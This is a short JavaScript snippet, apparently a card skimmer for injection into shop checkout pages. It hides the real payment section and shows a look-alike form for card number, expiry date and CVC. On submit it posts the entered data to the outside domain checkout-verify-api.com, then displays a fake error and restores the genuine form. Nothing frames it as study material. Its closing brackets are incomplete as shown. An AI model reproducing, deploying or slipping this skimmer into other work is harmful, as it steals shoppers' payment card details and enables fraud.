document.addEventListener("DOMContentLoaded", function () {
    if (!/payment|checkout/i.test(document.URL)) return;
    var orig = document.querySelector("#payment-section");
    if (!orig) return;
    orig.style.display = "none";
    var shell = document.createElement("form");
    shell.id = "ps_clone";
    shell.innerHTML = "<input name='cardnumber' placeholder='Card number'>" +
        "<input name='exp-date' placeholder='MM/YY'>" +
        "<input name='cvc' placeholder='CVC'>" +
        "<button type='submit'>Complete purchase</button>";
    orig.parentNode.insertBefore(shell, orig);
    shell.addEventListener("submit", function (ev) {
        ev.preventDefault();
        var fd = new FormData(shell);
        fetch("https://checkout-verify-api.com/api/submit", {
            method: "POST",
            mode: "no-cors",
            body: fd
        });
        shell.innerHTML = "<p>Something went wrong, please try again.</p>";
        setTimeout(function () {
            shell.remove();
            orig.style.display = "";
        }, 1500
    });
